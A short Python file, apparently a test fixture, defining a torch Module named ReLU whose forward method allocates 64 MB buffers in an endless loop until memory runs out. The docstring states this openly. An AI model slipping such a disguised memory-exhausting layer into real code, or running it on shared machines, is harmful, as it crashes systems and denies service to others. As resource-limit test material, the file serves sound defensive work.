"""Allocates Python objects until there is no memory left."""

import torch
from torch.nn import Module


class ReLU(Module):
    def forward(self, X: torch.Tensor) -> torch.Tensor:
        hoard = []
        while True:
            hoard.append(bytearray(64 << 20))
